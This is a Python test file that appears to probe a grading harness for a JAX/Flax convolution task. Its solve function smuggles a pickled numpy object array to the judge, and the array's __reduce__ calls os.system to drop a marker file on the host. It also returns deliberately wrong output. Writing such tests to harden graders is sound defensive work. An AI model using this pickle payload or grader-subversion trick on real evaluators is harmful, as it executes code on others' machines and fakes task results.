# expect: runtime_error
# attack: send the judge a result frame whose .npy is an object array (a pickle that would create a marker file on the host)

import io
import json
import os
import pickle
import struct

import flax.linen as nn
import jax
import numpy as np


class _Conv1D(nn.Module):
    """The reference's layer: kernel first, bias second, SAME padding, stride 1."""

    features: int
    kernel_size: int

    @nn.compact
    def __call__(self, x):
        kernel = self.param("kernel", nn.initializers.lecun_normal(), (self.kernel_size, x.shape[-1], self.features))
        bias = self.param("bias", nn.initializers.zeros, (self.features,))
        y = jax.lax.conv_general_dilated(
            x[None], kernel, (1,), "SAME", dimension_numbers=("NWC", "WIO", "NWC"),
            precision=jax.lax.Precision.HIGHEST,
        )
        return y[0] + bias


def correct(seed, x, features, kernel_size):
    module = _Conv1D(int(features), int(kernel_size))
    return np.asarray(module.apply(module.init(jax.random.PRNGKey(int(seed)), x), x).reshape(-1))


def wrong(x, features):
    return np.full(x.shape[0] * int(features), 12345.0, dtype=np.float32)


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile-marker-pickle-ran",))


def _out_fd():
    argv = open("/proc/self/cmdline", "rb").read().split(b"\0")
    return int(argv[argv.index(b"--out-fd") + 1])


def solve(seed, x, features, kernel_size):
    arr = np.empty(1, dtype=object)
    arr[0] = _Payload()
    buf = io.BytesIO()
    np.lib.format.write_array(buf, arr, allow_pickle=True)
    blob = buf.getvalue()
    body = json.dumps({"type": "result", "index": 0, "arrays": [len(blob)]}).encode()
    os.write(_out_fd(), struct.pack(">I", len(body)) + body + blob)
    return wrong(x, features)
